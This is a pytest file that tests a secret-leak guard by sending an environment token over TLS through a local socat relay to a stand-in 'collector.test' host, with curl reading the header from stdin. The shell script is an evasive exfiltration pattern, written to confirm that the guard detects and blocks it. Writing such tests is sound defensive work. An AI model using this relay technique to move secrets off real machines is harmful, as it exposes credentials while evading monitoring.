# SPDX-License-Identifier: MIT
"""A secret in TLS that goes through a relay on this machine: the client has no remote socket.

Nothing but unmodified tools: ``socat`` forwards, ``curl`` encrypts. The secret stands on no
command line.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest

from lab import Lab
from lab.guard import FINDINGS, Guarded
from lab.tokens import Token

pytestmark = pytest.mark.root

Guard = Callable[..., Guarded]

SCRIPT = """\
socat TCP-LISTEN:4430,bind=127.0.0.1,fork,reuseaddr TCP:{host}:443 &
relay=$!
until printf '' | socat -u - TCP:127.0.0.1:4430 2> /dev/null; do sleep 0.05; done
printf 'header = "X-Token: %s"\\n' "${name}" |
curl -s -m 10 --cacert "$CA" --connect-to {host}:443:127.0.0.1:4430 -K - https://{host}/ || true
kill $relay
"""


def command(lab: Lab, token: Token, host: str) -> list[str]:
    return ["sh", "-ec", SCRIPT.format(host=host, name=token.name)]


def test_unguarded_it_arrives(lab: Lab, secret: Token) -> None:
    environment = {**secret.env, "CA": str(lab.directory / "ca.pem")}
    lab.run(command(lab, secret, "collector.test"), env=environment)
    assert lab.collector.bytes_of(secret.value.encode()) == len(secret.value)


@pytest.mark.parametrize("mode", ["audit", "block"])
def test_guarded_it_does_not(lab: Lab, leakstop: Guard, secret: Token, mode: str) -> None:
    """In block mode the host is allowed, so that only the secret stops it."""
    run = leakstop(
        command(lab, secret, "collector.test"),
        mode=mode,
        policy="version: 1\nallow: collector.test\n" if mode == "block" else "",
        secrets=[secret],
        env={"CA": str(lab.directory / "ca.pem")},
    )
    assert lab.collector.bytes_of(secret.value.encode()) == 0
    assert run.code == FINDINGS, run.stderr
    (write,) = run.events("write")
    assert (write["name"], write["tie"], write["applied"]) == ("collector.test", "name", "deny")
    assert run.shows(secret) == []


def test_its_home_is_reached_that_way(lab: Lab, leakstop: Guard, secret: Token) -> None:
    run = leakstop(
        command(lab, secret, "home.test"),
        mode="block",
        policy=f"version: 1\nallow: home.test\nsecrets: {{{secret.name}: home.test}}\n",
        secrets=[secret],
        env={"CA": str(lab.directory / "ca.pem")},
    )
    assert lab.home.bytes_of(secret.value.encode()) == len(secret.value), run.stderr
    assert (run.code, run.findings()) == (0, []), run.stderr
